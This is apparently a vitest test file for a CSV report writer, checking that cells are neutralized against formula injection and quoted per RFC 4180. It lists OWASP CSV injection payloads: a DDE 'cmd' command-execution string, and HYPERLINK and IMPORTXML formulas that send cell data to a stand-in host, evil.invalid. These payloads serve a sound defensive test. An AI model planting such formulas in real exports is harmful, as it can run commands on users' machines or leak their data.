import { stringify } from "csv-stringify/sync"
import fc from "fast-check"
import { describe, expect, it } from "vitest"
import { csvRow, csvRows, neutralizeCell, renderCsv } from "../../src/report/Csv.ts"

// OWASP CSV injection payloads
const PAYLOADS = [
  "=1+1",
  "=cmd|' /C calc'!A0",
  "+1+1",
  "-2+3",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
  "=HYPERLINK(\"http://evil.invalid?x=\"&A1,\"click\")",
  "=IMPORTXML(CONCAT(\"http://evil.invalid/?v=\", A1), \"//a\")"
]

describe("CSV cells", () => {
  it("neutralizes every OWASP payload so no spreadsheet runs it", () => {
    for (const payload of PAYLOADS) {
      const safe = neutralizeCell(payload)
      expect(safe.startsWith("'"), payload).toBe(true)
      expect(safe.slice(1)).toBe(payload)
    }
  })

  it("leaves ordinary text alone, Greek and Cyrillic included", () => {
    for (const text of ["Πούτιν", "Путин", "Kim Jong-un", "2023-09", "a-b"]) expect(neutralizeCell(text)).toBe(text)
  })

  it("writes RFC 4180 with a byte-order mark and CRLF, quoting what needs it", () => {
    const csv = renderCsv(["a", "b"], [["=1+1", "say \"hi\", then\nleave"], ["Πούτιν", null]])
    expect(csv).toBe("\uFEFFa,b\r\n'=1+1,\"say \"\"hi\"\", then\nleave\"\r\nΠούτιν,\r\n")
  })

  it("quotes a cell with a bare line break, so no spreadsheet starts a row (and a formula) inside it", () => {
    expect(csvRow(["a\n=HYPERLINK(\"http://evil.invalid\")", "b\rc", "d"])).toBe("\"a\n=HYPERLINK(\"\"http://evil.invalid\"\")\",\"b\rc\",d\r\n")
  })

  it("writes the very bytes csv-stringify writes for the same cells, line breaks quoted", () => {
    // the characters that decide quoting, mixed with letters of several scripts
    const text = fc.string({ unit: fc.constantFrom("a", "Ω", "ж", " ", ",", "\"", "'", "\r", "\n", "\t", "=", "-", ";", "“", "😀") })
    const reference = (rows: ReadonlyArray<ReadonlyArray<string>>) =>
      rows.length === 0 ? "" : stringify(rows.map((row) => row.map(neutralizeCell)), { record_delimiter: "windows", quote_record_delimiter: true })
    fc.assert(
      fc.property(fc.array(fc.array(text, { minLength: 1, maxLength: 6 }), { maxLength: 5 }), (rows) => {
        expect(csvRows(rows)).toBe(reference(rows))
        for (const row of rows) expect(csvRow(row)).toBe(reference([row]))
      }),
      { numRuns: 2000 }
    )
  })
})
